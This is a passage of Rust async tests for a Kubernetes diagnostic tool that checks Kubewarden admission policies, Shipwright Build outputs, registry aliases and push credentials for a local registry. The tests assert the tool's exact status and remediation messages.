    let condition = json!([{"name": "never", "expression": "false"}]);
    assert_eq!(
        trouble_with(|policy| policy["spec"]["matchConditions"] = condition).await,
        [
            "! policy local matchConditions: never differs from those that this version ships, so objects may be left out; upgrade the release with the chart of this version (policy.enabled=true), or see that they leave out nothing that may be local"
        ]
    );
}

#[tokio::test]
async fn selectors_that_leave_something_out() {
    let namespaces = |labels: Value| {
        trouble_with(move |policy| {
            let expressions: Vec<Value> = labels
                .as_object()
                .unwrap()
                .iter()
                .map(|(key, value)| json!({"key": key, "operator": "In", "values": [value]}))
                .collect();
            policy["spec"]["namespaceSelector"] = json!({"matchExpressions": expressions});
        })
    };
    assert_eq!(
        namespaces(json!({"nope": "nope"})).await,
        [
            "✗ policy local namespaceSelector: it sees only namespaces with nope in (nope), and there is no such namespace; remove spec.namespaceSelector, or nothing is resolved"
        ]
    );
    assert_eq!(
        namespaces(json!({"env": "prod"})).await,
        [
            "! policy local namespaceSelector: it sees only namespaces with env in (prod); no image is resolved in default; remove spec.namespaceSelector, unless that is meant"
        ]
    );
    assert_eq!(namespaces(json!({})).await, Vec::<String>::new());
    assert_eq!(
        trouble_with(|policy| policy["spec"]["namespaceSelector"] = json!({"matchLabels": {"env": "prod"}})).await,
        [
            "! policy local namespaceSelector: its matchLabels select nothing: Kubewarden drops them from a ClusterAdmissionPolicy, so it is also asked in namespaces without env=prod; write them as matchExpressions, or remove them"
        ]
    );
    let wide = json!({"matchExpressions": [{"key": "env", "operator": "NotIn", "values": ["test"]}]});
    assert_eq!(
        trouble_with(|policy| policy["spec"]["namespaceSelector"] = wide).await,
        [
            "! policy local namespaceSelector: it sees only namespaces with env notin (test); these are all namespaces now, but a new one may be left out; remove spec.namespaceSelector, unless that is meant"
        ]
    );
    let objects = |labels: Value, builds: Value| {
        trouble(
            move |objects| {
                objects.insert(STORED, builds);
                objects.get_mut(POLICY).unwrap()["spec"]["objectSelector"] = json!({"matchLabels": labels});
            },
            Location::InCluster,
            plain_http(),
        )
    };
    let mut labelled = build("a", json!({"image": "reg.io/app"}));
    labelled["metadata"]["labels"] = json!({"a": "b"});
    let builds = list(&[labelled, build("b", json!({"image": "reg.io/app"}))]);
    assert_eq!(
        objects(json!({"a": "b"}), builds.clone()).await,
        [
            "! policy local objectSelector: it sees only objects with a=b, which 1 of 2 Builds have; no other image is resolved; remove spec.objectSelector, unless that is meant"
        ]
    );
    assert_eq!(
        objects(json!({"a": "c"}), builds).await,
        [
            "✗ policy local objectSelector: it sees only objects with a=c, which none of 2 Builds has; remove spec.objectSelector, or nothing is resolved"
        ]
    );
    assert_eq!(
        objects(json!({"a": "b"}), json!(403)).await,
        [
            "! policy local namespaces: it is not known whether Builds are where it is not asked: builds.shipwright.io: list is forbidden: no; grant `list` on builds.shipwright.io",
            "! policy local objectSelector: it sees only objects with a=b; no other image is resolved; remove spec.objectSelector, unless that is meant",
            "! Builds: builds.shipwright.io: list is forbidden: no; grant `list` on builds.shipwright.io",
        ]
    );
    let impossible =
        json!({"matchExpressions": [{"key": "a", "operator": "Exists"}, {"key": "a", "operator": "DoesNotExist"}]});
    assert_eq!(
        trouble_with(|policy| policy["spec"]["objectSelector"] = impossible).await,
        [
            "✗ policy local objectSelector: it sees only objects with a,!a, which nothing has; remove spec.objectSelector, or nothing is resolved"
        ]
    );
}

#[tokio::test]
async fn stored_builds_that_lost_their_field_or_go_to_docker_hub() {
    let marked = |name: &str, output: Value, marks: Value| {
        let mut build = labelled(build(name, output));
        build["metadata"]["annotations"] = marks;
        build
    };
    let output = |value: &str| json!({"local-registry-hosting/output": value});
    let mut source =
        marked("source", json!({"image": "reg.io/app"}), json!({"local-registry-hosting/source": "recorded"}));
    source["spec"]["source"] = json!({"type": "OCI", "ociArtifact": {"image": "kind-registry.local:5000/team/source"}});
    let builds = [
        // What they should be.
        marked("whole", json!({"image": "app", "local": true}), output("recorded")),
        marked("annotated", json!({"image": "app"}), output("true")),
        marked("builder", json!({"image": "reg.io/app"}), json!({"local-registry-hosting/builder": "recorded"})),
        build("parameter", json!({"image": "$(params.image)"})),
        build("foreign", json!({"image": "docker.io/team/app"})),
        // What they should not.
        labelled(build("unrecorded", json!({"image": "app", "local": true}))),
        build("unrecorded-here", json!({"image": "kind-registry.local:5000/app", "local": true})),
        build("unrecorded-elsewhere", json!({"image": "old-registry:5000/app", "local": true})),
        marked("lost", json!({"image": "app"}), output("recorded")),
        source,
        build("hub", json!({"image": "team/app:v1"})),
        marked("denied", json!({"image": "team/app:v1", "local": false}), output("true")),
    ];
    let expected = [
        "! Builds: 2 have local: true and no annotation that records it, so a client that drops the field makes them not local: team/unrecorded, team/unrecorded-here; once the policy is asked, run: kubectl annotate builds --all --all-namespaces --overwrite recorded-at=\"$(date +%s)\"",
        "! Builds: 1 have local: true for an image at another registry than the policy's, which it does not record: team/unrecorded-elsewhere; re-apply them, with an image that names no registry",
        "! Builds: 2 have no field local, and are local by their record alone: team/lost, team/source; those written in v1alpha1 always look so; re-apply the others, and see that the CRDs have the field",
        "! Builds: 2 have an output that is not local and names no registry, so it goes to Docker Hub: team/hub, team/denied; set local: true, or write the registry that is meant, docker.io included",
    ];
    let stored = list(&builds);
    assert_eq!(
        trouble(|objects| drop(objects.insert(STORED, stored)), Location::InCluster, plain_http()).await,
        expected
    );

    // Many, on two pages.
    let more: Vec<Value> = (0..40).map(|n| build(&format!("hub-{n}"), json!({"image": "app"}))).collect();
    let mut first = list(&builds);
    first["metadata"]["continue"] = json!("page2");
    let lines = trouble(
        |objects| {
            objects.insert(STORED, first);
            objects.insert("page2", list(&more));
        },
        Location::InCluster,
        plain_http(),
    )
    .await;
    assert!(
        lines[3].contains("42 have an output that is not local")
            && lines[3].contains("team/hub, team/denied, team/hub-0, team/hub-1, team/hub-2 and 37 more;"),
        "{lines:?}"
    );
}

#[tokio::test]
async fn stored_builds_outside_of_their_namespace_are_named_if_the_policy_rejects_their_runs() {
    let marked = |name: &str, image: &str| {
        let mut build = labelled(build(name, json!({"image": image, "local": true})));
        build["metadata"]["annotations"] = json!({"local-registry-hosting/output": "recorded"});
        build
    };
    let builds = [
        marked("right", "team/app:v1"),
        marked("right-here", "kind-registry.local:5000/team/app"),
        build("right-by-name", json!({"image": "local-registry:5000/team/app"})),
        build("not-local", json!({"image": "quay.io/others/app"})),
        build("parameter", json!({"image": "$(params.image)"})),
        marked("short", "team"),
        marked("longer", "team-b/app"),
        marked("here", "kind-registry.local:5000/others/app"),
        build("by-name", json!({"image": "local-registry:5000/app"})),
    ];
    let found = async |repositories: Value| {
        let stored = list(&builds);
        let change = |objects: &mut BTreeMap<&'static str, Value>| {
            objects.insert(STORED, stored);
            objects.get_mut(POLICY).unwrap()["spec"]["settings"]["repositories"] = repositories;
        };
        trouble(change, Location::InCluster, plain_http()).await
    };
    for any in [json!(null), json!(""), json!("any")] {
        assert_eq!(found(any).await, [""; 0]);
    }
    // The policy takes a word that it does not know for `namespace`.
    for word in ["namespace", "namespaces"] {
        assert_eq!(
            found(json!(word)).await,
            [
                "! Builds: 4 have a local output that does not begin with their namespace, so their runs are rejected (repositories: namespace): team/short, team/longer, team/here, team/by-name; have their authors write the namespace in front, as in team/app"
            ]
        );
    }
}

#[tokio::test]
async fn foreign_fields_are_named_with_their_managers() {
    let foreign = |objects: &mut BTreeMap<&'static str, Value>| {
        objects.insert(CONFIG_MAP, config_map("host: my-laptop"));
        objects.get_mut(POLICY).unwrap()["spec"]["settings"] = json!({"host": "reg.io", "help": "https://a.b"});
    };
    let lines = trouble(foreign, Location::InCluster, plain_http()).await;
    assert_eq!(
        lines[2],
        "! policy local settings: spec.settings.host: the cluster does not declare it, and no field manager owns it; spec.settings.help: the cluster does not declare it, and no field manager owns it; remove them where they were set, if they are no longer right"
    );
}

#[tokio::test]
async fn a_host_that_is_not_allowed() {
    let allowed = AllowedHosts::new(vec!["*.svc:5000".parse().unwrap()]);
    let task = Task { policies: vec!["local".parse().unwrap()], allowed, ..Task::default() };
    let lines = run_task(cluster(), &task, Location::InCluster, plain_http()).await;
    assert_eq!(
        lines[0],
        "✗ ConfigMap: kube-public/local-registry-hosting: hostFromClusterNetwork: `kind-registry.local:5000` is not allowed; expected `*.svc:5000`; declare such a host, or allow this one by --allow-host"
    );
}

const WORKLOADS: &str = "/apis/policies.kubewarden.io/v1/clusteradmissionpolicies/workloads";
const LABELLED: &str = "/apis/policies.kubewarden.io/v1/clusteradmissionpolicies/labelled";

/// The lines about a policy for workloads, as it is shipped, but changed.
async fn lines_about_workloads(declared: &str, change: impl FnOnce(&mut Value)) -> Vec<String> {
    let lines = lines_beside(WORKLOADS, "workloads", declared, change).await;
    lines.into_iter().filter(|line| line.contains(" policy workloads")).collect()
}

/// The lines but for the last, with another policy beside that for Builds: one for workloads, at this path, but changed.
async fn lines_beside(path: &'static str, file: &str, declared: &str, change: impl FnOnce(&mut Value)) -> Vec<String> {
    let mut objects = cluster();
    objects.insert(CONFIG_MAP, config_map(declared));
    let mut policy = read(&format!("charts/local-registry/files/policies/{file}.yaml"));
    let (_, name) = path.rsplit_once('/').unwrap();
    policy["metadata"]["name"] = json!(name);
    for key in ["host", "runtimeHost"] {
        policy["spec"]["settings"][key] = json!("kind-registry.local:5000");
    }
    policy["status"] = objects[POLICY]["status"].clone();
    change(&mut policy);
    objects.insert(path, policy);
    let policies = ["local", name].map(|name| name.parse().unwrap()).to_vec();
    let task = Task { policies, ..Task::default() };
    let mut lines = run_task(objects, &task, Location::InCluster, plain_http()).await;
    assert!(lines.pop().is_some_and(|line| line.contains(" safeguards: ")));
    lines
}

const FOR_BOTH: &str =
    "hostFromClusterNetwork: kind-registry.local:5000\nhostFromContainerRuntime: kind-registry.local:5000";

#[tokio::test]
async fn a_policy_for_workloads_that_holds() {
    assert_eq!(
        lines_about_workloads(FOR_BOTH, |_| {}).await,
        [
            "✓ policy workloads: it is active, and its policy server serves its newest settings",
            "✓ policy workloads webhook: the API server asks it at kubewarden/policy-server-default/validate/clusterwide-workloads",
            "✓ policy workloads server: 1 of 1 ready in kubewarden, by the labels kubewarden/policy-server=default",
            "✓ policy workloads mode: protect",
            "✓ policy workloads failurePolicy: Fail",
            "✓ policy workloads rules: they cover pods, ephemeral containers and Knative revisions",
            "✓ policy workloads namespaceSelector: it sees only namespaces with kubernetes.io/metadata.name notin (local-registry-check), as it is shipped",
            "✓ policy workloads matchConditions: they are among those that this version ships",
            "✓ policy workloads settings: they say what the cluster declares, and are served",
            "✓ policy workloads runtimeHost: pods and Knative revisions get kind-registry.local:5000",
            "✓ policy workloads rights: it needs none, since it looks nothing up",
        ]
    );
}

#[tokio::test]
async fn a_policy_for_workloads_that_does_not_work() {
    let lines = lines_about_workloads("hostFromClusterNetwork: kind-registry.local:5000", |policy| {
        let spec = policy["spec"].as_object_mut().unwrap();
        spec.remove("matchConditions");
        spec["mutating"] = json!(false);
        spec["rules"].as_array_mut().unwrap().pop();
        spec.insert("objectSelector".to_owned(), json!({"matchLabels": {"a": "b"}}));
    })
    .await;
    let trouble: Vec<_> = lines.iter().filter(|line| !line.starts_with('✓')).collect();
    assert_eq!(
        trouble,
        [
            "✗ policy workloads mutating: spec.mutating is not true; set spec.mutating: true, or nothing is injected",
            "✗ policy workloads rules: they leave out CREATE of v1 revisions; give it the rules of charts/local-registry/files/policies/workloads.yaml",
            "! policy workloads objectSelector: it sees only objects with a=b; no other image is resolved; remove spec.objectSelector, unless that is meant",
            "! policy workloads matchConditions: there are none, so every pod waits for it, and none starts while its policy server is down; upgrade the release with the chart of this version (workloads.enabled=true)",
            "! policy workloads settings: spec.settings.runtimeHost: the cluster does not declare it, and no field manager owns it; remove it where it was set, if it is no longer right",
        ]
    );
}

#[tokio::test]
async fn a_policy_for_labelled_namespaces_that_holds() {
    let lines = lines_beside(LABELLED, "labelled", FOR_BOTH, |_| {}).await;
    let about = |line: &&String| line.contains(" policy labelled") || line.contains("labelled-guard");
    assert_eq!(
        lines.iter().filter(about).collect::<Vec<_>>(),
        [
            "✓ policy labelled: it is active, and its policy server serves its newest settings",
            "✓ policy labelled webhook: the API server asks it at kubewarden/policy-server-default/validate/clusterwide-labelled",
            "✓ policy labelled server: 1 of 1 ready in kubewarden, by the labels kubewarden/policy-server=default",
            "✓ policy labelled mode: protect",
            "✓ policy labelled failurePolicy: Fail",
            "✓ policy labelled settings.imagesWithoutRegistry: local",
            "✓ policy labelled rules: they cover pods, ephemeral containers and Knative revisions",
            "✓ policy labelled namespaceSelector: it sees only namespaces with local-registry-hosting/workloads in (true), as it is shipped",
            "✓ policy labelled matchConditions: they are among those that this version ships",
            "✓ policy labelled settings: they say what the cluster declares, and are served",
            "✓ policy labelled runtimeHost: pods and Knative revisions get kind-registry.local:5000",
            "✓ policy labelled rights: it needs none, since it looks nothing up",
            "✓ guard local-registry-labelled-guard: it is bound, and denies what the policy does not see",
        ]
    );
}

#[tokio::test]
async fn a_policy_for_labelled_namespaces_that_does_not_work() {
    let lines = lines_beside(LABELLED, "labelled", FOR_BOTH, |policy| {
        let spec = &mut policy["spec"];
        spec["settings"]["imagesWithoutRegistry"] = json!("Local");
        let team = json!({"key": "team", "operator": "Exists"});
        spec["namespaceSelector"]["matchExpressions"].as_array_mut().unwrap().push(team);
    })
    .await;
    let is_trouble = |line: &&String| line.contains(" policy labelled") && !line.starts_with('✓');
    assert_eq!(
        lines.iter().filter(is_trouble).collect::<Vec<_>>(),
        [
            "✗ policy labelled settings.imagesWithoutRegistry: it is Local, so an image without a registry stays as it is, and the guard refuses it; set spec.settings.imagesWithoutRegistry: local",
            "✗ policy labelled namespaceSelector: it sees only namespaces with local-registry-hosting/workloads in (true),team, and there is no such namespace; give it the namespaceSelector of charts/local-registry/files/policies/labelled.yaml, or nothing is resolved",
        ]
    );
}

#[tokio::test]
async fn a_policy_for_workloads_alone_says_nothing_of_builds() {
    let mut objects = cluster();
    let policy = read("charts/local-registry/files/policies/workloads.yaml");
    objects.insert(WORKLOADS, policy);
    objects.insert(STORED, list(&[recorded("a", json!({"image": "team/app", "local": true}))]));
    let lines = run(objects, "workloads", Location::InCluster, plain_http()).await;
    assert!(
        lines.contains(&"✓ Builds: none of 1 has lost local: true, can lose it, or goes to Docker Hub".to_owned()),
        "{lines:#?}"
    );
}

#[tokio::test]
async fn namespaces_whose_pods_push() {
    let labelled = |count: usize| {
        let names = (0..count)
            .map(|index| json!({"metadata": {"name": format!("team-{index}"), "labels": {"local-registry-hosting/alias": "true"}}, "status": {"phase": "Active"}}));
        list(&names.collect::<Vec<_>>())
    };
    let service = |namespace: &str, kind: &str, host: &str| {
        json!({
            "metadata": {"name": "local-registry", "namespace": namespace},
            "spec": {"type": kind, "externalName": host},
        })
    };
    let lines = async |declared: &str, namespaces: Value, services: Value| {
        let mut objects = cluster();
        objects.insert(CONFIG_MAP, config_map(&format!("hostFromClusterNetwork: {declared}")));
        objects.insert(ALIAS_NAMESPACES, namespaces);
        objects.insert(ALIASES, services);
        let lines = run(objects, "local", Location::InCluster, plain_http()).await;
        lines.into_iter().filter(|line| line.split(' ').nth(1) == Some("aliases:")).collect::<Vec<_>>()
    };
    let to = KIT.strip_suffix(":5000").unwrap();
    let right = |index: usize| service(&format!("team-{index}"), "ExternalName", to);
    assert_eq!(lines(KIT, list(&[]), list(&[])).await, [""; 0]);
    assert_eq!(
        lines(KIT, labelled(2), list(&[right(0), right(1)])).await,
        [format!("✓ aliases: they lead to {to}: team-0, team-1")]
    );
    assert_eq!(
        lines(KIT, labelled(8), list(&[right(0), service("team-1", "ClusterIP", "")])).await,
        ["✗ aliases: namespaces with the label local-registry-hosting/alias have none that leads to the registry: \
             team-2, team-3, team-4, team-5, team-6 and 1 more; set alias.enabled=true in the release; if it is set, the sync job's \
             log says what fails"]
    );
    assert_eq!(
        lines(KIT, labelled(1), list(&[service("team-0", "ClusterIP", "")])).await,
        ["✗ aliases: in its place is a Service local-registry that somebody else has made: team-0; take the label \
             from the namespace, or delete that Service if nobody needs it"]
    );
    assert_eq!(
        lines("kind-registry.local:5000", labelled(1), list(&[])).await,
        [
            "! aliases: there is none for the namespaces with the label local-registry-hosting/alias (team-0): an alias leads to \
             a Service of this cluster, and the declared registry `kind-registry.local:5000` does not name one; declare a Service, such as \
             registry.infra.svc.cluster.local:5000"
        ]
    );
    let typo = json!({"metadata": {"name": "team", "labels": {"local-registry-hosting/alias": "yes"}}, "status": {}});
    assert_eq!(
        lines(KIT, list(&[typo]), list(&[])).await,
        [
            "! aliases: the label local-registry-hosting/alias has another value than true, so it brings none: team (`yes`); write \
             true, or remove the label"
        ]
    );
    assert_eq!(
        lines(KIT, labelled(1), json!(403)).await,
        [
            "! aliases: Services that are called local-registry: list is forbidden: no; grant `list` on services/local-registry in \
             all namespaces"
        ]
    );
}

/// The lines about credentials, and what was asked about them.
async fn lines_of_credentials(objects: BTreeMap<&'static str, Value>, kept: Credentials) -> (Vec<String>, Vec<String>) {
    let task = Task { policies: vec!["local".parse().unwrap()], ..Task::default() };
    let scope = Scope { location: Location::InCluster, credentials: kept, ..Scope::default() };
    let (mut lines, mut asked) = run_in(objects, &task, &scope, plain_http()).await;
    lines.retain(|line| line.contains(" credentials: "));
    asked.retain(|url| url.contains("serviceaccounts") || url.contains("secrets") || url.contains("%2Fpush"));
    (lines, asked)
}

#[tokio::test]
async fn namespaces_whose_builds_push() {
    let namespace = |name: &str, label: &str, phase: &str| {
        json!({
            "metadata": {"name": name, "labels": {"local-registry-hosting/push": label}}, "status": {"phase": phase},
        })
    };
    let in_an_hour = Timestamp::now().checked_add(SignedDuration::from_hours(1)).unwrap().to_string();
    let account = |namespace: &str, host: &str| {
        json!({
            "metadata": {
                "name": "local-registry-push", "namespace": namespace,
                "labels": {"app.kubernetes.io/managed-by": "local-registry-credentials"},
                "annotations": {
                    "local-registry-hosting/expires": in_an_hour, "local-registry-hosting/host": host,
                },
            },
        })
    };
    let namespaces = [
        namespace("good", "true", "Active"),
        namespace("gone", "true", "Terminating"),
        namespace("old", "true", "Active"),
        namespace("typo", "yes", "Active"),
    ];
    // The last account is on a page of its own.
    let mut first = list(&[account("good", "kind-registry.local:5000"), account("unlabelled", "old.io")]);
    first["metadata"]["continue"] = json!("second-page");
    let mut objects = cluster();
    objects.insert(PUSH_NAMESPACES, list(&namespaces));
    objects.insert(ACCOUNTS, first);
    objects.insert("second-page", list(&[account("old", "old.io")]));
    let (lines, asked) = lines_of_credentials(objects.clone(), Credentials::Kept).await;
    assert_eq!(
        lines,
        [
            "✗ credentials: 1 of 2 namespaces with the label have one for another host than kind-registry.local:5000: old (`old.io`); see the \
             log of the Deployment registry-credentials, which makes and renews them",
            "! credentials: namespaces without the label local-registry-hosting/push=true still have one: unlabelled; see the log of the \
             Deployment registry-credentials, which takes it away",
            "! credentials: the label local-registry-hosting/push has another value than true, so it brings none: typo (`yes`); write \
             true, or remove the label",
        ]
    );
    assert_eq!(asked.len(), 3, "{asked:?}");
    let of_accounts = asked.iter().filter(|url| url.contains("serviceaccounts"));
    for url in of_accounts {
        assert!(url.contains("fieldSelector=metadata.name%3Dlocal-registry-push") && url.contains("limit=4"), "{url}");
    }
    assert_eq!(lines_of_credentials(objects.clone(), Credentials::NotKept).await, (vec![], vec![]));

    objects.insert(ACCOUNTS, json!(403));
    assert_eq!(
        lines_of_credentials(objects, Credentials::Kept).await.0,
        ["! credentials: ServiceAccounts that are called local-registry-push: list is forbidden: no; grant `list` on \
          serviceaccounts/local-registry-push in all namespaces"]
    );
}
